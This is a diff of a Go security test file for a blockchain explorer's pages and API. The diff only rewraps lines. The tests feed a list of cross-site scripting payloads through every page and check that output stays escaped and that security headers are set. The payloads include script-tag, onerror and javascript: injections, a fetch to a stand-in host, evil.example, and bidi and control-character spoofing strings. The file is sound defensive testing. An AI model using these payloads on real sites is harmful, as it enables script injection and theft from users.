@@ -16,9 +16,11 @@ import (
 
 // everyPage is every page, and every JSON answer, that shows text of the chain.
 var everyPage = []string{
-	"/", "/blocks", "/block/3", "/tx/" + "aa" + strings.Repeat("0", 62), "/rounds", "/round/0/2", "/participants", "/participant/3", "/validators",
+	"/", "/blocks", "/block/3", "/tx/" + "aa" + strings.Repeat("0", 62), "/rounds", "/round/0/2", "/participants",
+	"/participant/3", "/validators",
 	"/elections", "/model", "/round/0/999", "/search?q=3", "/params", "/governance", "/evidence",
-	"/v1/status", "/v1/params", "/v1/epochs", "/v1/rounds", "/v1/rounds/2", "/v1/participants", "/v1/privacy", "/v1/models/2", "/v1/rounds/999",
+	"/v1/status", "/v1/params", "/v1/epochs", "/v1/rounds", "/v1/rounds/2", "/v1/participants", "/v1/privacy",
+	"/v1/models/2", "/v1/rounds/999",
 }
 
 // payloads are texts that want to be more: markup, breaks out of attributes,
@@ -28,27 +30,38 @@ func payloads() []string {
 	run := []string{"alert(1)", "window.hit=1", "document.title='hit'", "fetch('//evil.example')", "parent.hit=1"}
 	for _, js := range run {
 		for _, form := range []string{
-			`<script>%s</script>`, `"><script>%s</script>`, `'><script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`,
-			`--><script>%s</script>`, `]]><script>%s</script>`, `<img src=x onerror=%s>`, `<img src=x onerror="%s">`, `"><img src=x onerror=%s>`,
-			`<svg onload=%s>`, `<svg/onload=%s>`, `</svg><svg onload=%s>`, `<body onload=%s>`, `<iframe srcdoc="<script>%s</script>">`, `<iframe src="javascript:%s">`,
-			`<a href="javascript:%s">x</a>`, `javascript:%s`, `" onmouseover="%s`, `' onfocus='%s' autofocus='`, ` onload=%s `, "`onclick=%s`", `<details open ontoggle=%s>`,
-			`<math><mtext></mtext><script>%s</script></math>`, `<object data="javascript:%s">`, `<meta http-equiv=refresh content="0;javascript:%s">`,
-			`<template><script>%s</script></template>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`, `{{.%s}}`, `{{"<script>%s</script>"}}`,
-			`<base href="https://evil.example/"><script src=%s></script>`, `<style>@import '%s'</style>`, `<x style="behavior:url(%s)">`, `\u003cscript\u003e%s\u003c/script\u003e`,
-			`</script><script>%s</script>`, `<link rel=import href="data:text/html,<script>%s</script>">`, `<form action="javascript:%s"><button>`,
+			`<script>%s</script>`, `"><script>%s</script>`, `'><script>%s</script>`, `</title><script>%s</script>`,
+			`</textarea><script>%s</script>`,
+			`--><script>%s</script>`, `]]><script>%s</script>`, `<img src=x onerror=%s>`, `<img src=x onerror="%s">`,
+			`"><img src=x onerror=%s>`,
+			`<svg onload=%s>`, `<svg/onload=%s>`, `</svg><svg onload=%s>`, `<body onload=%s>`,
+			`<iframe srcdoc="<script>%s</script>">`, `<iframe src="javascript:%s">`,
+			`<a href="javascript:%s">x</a>`, `javascript:%s`, `" onmouseover="%s`, `' onfocus='%s' autofocus='`, ` onload=%s `,
+			"`onclick=%s`", `<details open ontoggle=%s>`,
+			`<math><mtext></mtext><script>%s</script></math>`, `<object data="javascript:%s">`,
+			`<meta http-equiv=refresh content="0;javascript:%s">`,
+			`<template><script>%s</script></template>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`, `{{.%s}}`,
+			`{{"<script>%s</script>"}}`,
+			`<base href="https://evil.example/"><script src=%s></script>`, `<style>@import '%s'</style>`,
+			`<x style="behavior:url(%s)">`, `\u003cscript\u003e%s\u003c/script\u003e`,
+			`</script><script>%s</script>`, `<link rel=import href="data:text/html,<script>%s</script>">`,
+			`<form action="javascript:%s"><button>`,
 		} {
 			out = append(out, fmt.Sprintf(form, js))
 		}
 	}
 	return append(out,
-		"\u202egnp.exe", "a\u2066b\u2069", "\u200f\u200e", "zero\u200bwidth", "\ufeffbom", "nul\x00", "esc\x1b[2J", "bell\a", "\x7f", "line\u2028break\u2029", "tab\tfeed\n\r",
-		"bad\xff\xfeutf8", "soft\u00adhyphen", "\U000e0001tag", "nbsp\u00a0", "\ue000private", "z"+strings.Repeat("\u0301", 60), "\ufdd0", "\U0001f600", "مرحبا", "&lt;script&gt;", "&#60;b&#62;")
+		"\u202egnp.exe", "a\u2066b\u2069", "\u200f\u200e", "zero\u200bwidth", "\ufeffbom", "nul\x00", "esc\x1b[2J", "bell\a",
+		"\x7f", "line\u2028break\u2029", "tab\tfeed\n\r",
+		"bad\xff\xfeutf8", "soft\u00adhyphen", "\U000e0001tag", "nbsp\u00a0", "\ue000private",
+		"z"+strings.Repeat("\u0301", 60), "\ufdd0", "\U0001f600", "مرحبا", "&lt;script&gt;", "&#60;b&#62;")
 }
 
 var ownTags = map[string]bool{}
 
 func init() {
-	for _, t := range strings.Fields("html head meta title link script body a header strong nav ul li form label input button main footer h1 h2 p dl dt dd div small svg rect text " +
+	for _, t := range strings.Fields("html head meta title link script body a header strong nav ul li form label input " +
+		"button main footer h1 h2 p dl dt dd div small svg rect text " +
 		"polyline span table caption thead tbody tr th td meter figure figcaption img code bdi q circle") {
 		ownTags[t] = true
 	}
@@ -69,9 +82,11 @@ func skeleton(t *testing.T, page string) string {
 			require.True(t, ownTags[tok.Data], "tag %q", tok.Data)
 			b.WriteString("<" + tok.Data)
 			for _, a := range tok.Attr {
-				require.False(t, strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc", "attribute %s of %s", a.Key, tok.Data)
+				require.False(t, strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc", "attribute %s of %s",
+					a.Key, tok.Data)
 				if a.Key == "href" || a.Key == "src" || a.Key == "action" {
-					require.True(t, strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") || a.Val == "#main", "%s=%q", a.Key, a.Val)
+					require.True(t, strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") || a.Val == "#main", "%s=%q",
+						a.Key, a.Val)
 				}
 				b.WriteString(" " + a.Key)
 			}
@@ -101,7 +116,8 @@ func TestHostileText(t *testing.T) {
 			continue
 		}
 		s := over(t, newFake(6, text), Options{})
-		for _, path := range append(everyPage, "/search?q="+url.QueryEscape("§"+text), "/v1/rounds/"+url.PathEscape(text), "/block/"+url.PathEscape(text)) {
+		for _, path := range append(everyPage, "/search?q="+url.QueryEscape("§"+text), "/v1/rounds/"+url.PathEscape(text),
+			"/block/"+url.PathEscape(text)) {
 			w := get(s, path)
 			body := w.Body.String()
 			require.True(t, utf8.ValidString(body), "%q on %s", text, path)
@@ -132,7 +148,8 @@ func TestHostileText(t *testing.T) {
 // TestVisible: what it writes, exactly.
 func TestVisible(t *testing.T) {
 	for text, want := range map[string]string{
-		"plain é 漢 مرحبا": "plain é 漢 مرحبا", "a\u202eb": `a\u{202E}b`, "a\xffb": `a\xFFb`, "\x1b[2J": `\u{1B}[2J`, "\u00a0": `\u{A0}`,
+		"plain é 漢 مرحبا": "plain é 漢 مرحبا", "a\u202eb": `a\u{202E}b`, "a\xffb": `a\xFFb`, "\x1b[2J": `\u{1B}[2J`,
+		"\u00a0":                          `\u{A0}`,
 		"z" + strings.Repeat("\u0301", 6): "z" + strings.Repeat("\u0301", 4) + `\u{301}\u{301}`,
 	} {
 		require.Equal(t, want, string(visible([]byte(text), forPage)))
@@ -143,9 +160,11 @@ func TestVisible(t *testing.T) {
 // TestHeaders: every answer of any kind carries them.
 func TestHeaders(t *testing.T) {
 	s := over(t, newFake(6, "x"), Options{})
-	for _, path := range append(everyPage, "/nothing", "/assets/style.css", "/assets/live.js", "/weights/0/2/1", "/v1/openapi.json", "/v1/nothing", "/search?q=0/2") {
+	for _, path := range append(everyPage, "/nothing", "/assets/style.css", "/assets/live.js", "/weights/0/2/1",
+		"/v1/openapi.json", "/v1/nothing", "/search?q=0/2") {
 		h := get(s, path).Header()
-		require.Equal(t, "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'", h.Get("Content-Security-Policy"), path)
+		require.Equal(t, "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src "+
+			"'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'", h.Get("Content-Security-Policy"), path)
 		require.Equal(t, "nosniff", h.Get("X-Content-Type-Options"), path)
 		require.Equal(t, "no-referrer", h.Get("Referrer-Policy"), path)
 		require.Empty(t, h.Get("Access-Control-Allow-Origin"), path)
